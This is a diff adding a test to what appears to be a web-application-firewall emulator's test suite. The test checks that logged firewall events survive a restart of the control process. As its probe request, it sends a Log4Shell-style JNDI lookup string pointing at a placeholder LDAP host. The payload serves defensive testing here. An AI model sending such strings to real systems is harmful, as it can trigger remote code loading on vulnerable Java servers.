@@ -129,3 +129,21 @@ scene('known breaches are refused in a new zone, until its setting waf or a mana
   await managed([{ action: 'skip', expression: 'http.request.uri.path eq "/"', action_parameters: { ruleset: 'current' } }])
   eq(await probe(), 200)
 })
+
+scene('events outlive control', async s => {
+  const { api, base, get, edge } = await nodeWithZone(s)
+  const probe = () => get('/?q=' + encodeURIComponent('${jndi:ldap://x.test/a}'))
+  const rays = [(await probe()).get('cf-ray'), (await probe()).get('cf-ray')]
+  const events = () => api.get(`${base}/firewall/events`)
+  await waitFor(async () => (await events()).length === 2, { what: 'the events' })
+  const control = () => edge.processes().find(pid => {
+    try { return fs.readFileSync(`/proc/${pid}/comm`, 'utf8').trim() === 'seawall-control' } catch { return false }
+  })
+  const before = control()
+  process.kill(before, 'SIGTERM')
+  const kept = await waitFor(async () => { try { return control() !== before && await events() } catch { return false } }, { within: 30000, what: 'control to be back' })
+  eq(kept.map(e => [e.ray, e.seq]), [[rays[1], 2], [rays[0], 1]])
+  const third = (await probe()).get('cf-ray')
+  await waitFor(async () => (await events())[0]?.ray === third, { within: 30000, what: 'an event after it' })
+  eq((await events()).map(e => e.seq), [3, 2, 1])
+})
